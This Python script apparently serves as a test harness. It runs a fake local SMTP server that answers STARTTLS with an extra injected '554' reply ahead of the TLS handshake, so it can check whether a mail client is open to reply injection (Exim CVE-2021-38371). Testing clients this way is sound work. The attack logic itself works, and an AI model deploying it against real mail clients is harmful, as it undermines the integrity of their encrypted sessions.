# A hostile upstream: it answers STARTTLS with "220" and, in the same
# write, a reply of its own ("554 injected") before the handshake. A
# client that reads that 554 as the answer to its next command is open to
# reply injection (Exim CVE-2021-38371). Usage:
#   fake_starttls.py PORT CERT KEY    (prints the commands it received)
import socket
import ssl
import sys

port, cert, key = int(sys.argv[1]), sys.argv[2], sys.argv[3]
ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
ctx.load_cert_chain(cert, key)
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", port))
srv.listen(1)
print("ready", flush=True)
conn, _ = srv.accept()
buf = b""


def line(sock):
    global buf
    while b"\r\n" not in buf:
        chunk = sock.recv(4096)
        if not chunk:
            return None
        buf += chunk
    ln, buf = buf.split(b"\r\n", 1)
    print("C:", ln.decode(), flush=True)
    return ln


conn.sendall(b"220 fake ESMTP\r\n")
line(conn)
conn.sendall(b"250-fake\r\n250 STARTTLS\r\n")
line(conn)
conn.sendall(b"220 go ahead\r\n554 5.0.0 injected\r\n")
tls = ctx.wrap_socket(conn, server_side=True)
in_data = False
while True:
    ln = line(tls)
    if ln is None:
        break
    if in_data:
        if ln == b".":
            in_data = False
            tls.sendall(b"250 2.0.0 queued\r\n")
        continue
    verb = ln[:4].upper()
    if verb == b"EHLO":
        tls.sendall(b"250 fake\r\n")
    elif verb == b"DATA":
        in_data = True
        tls.sendall(b"354 go\r\n")
    elif verb == b"QUIT":
        tls.sendall(b"221 bye\r\n")
        break
    else:
        tls.sendall(b"250 ok\r\n")
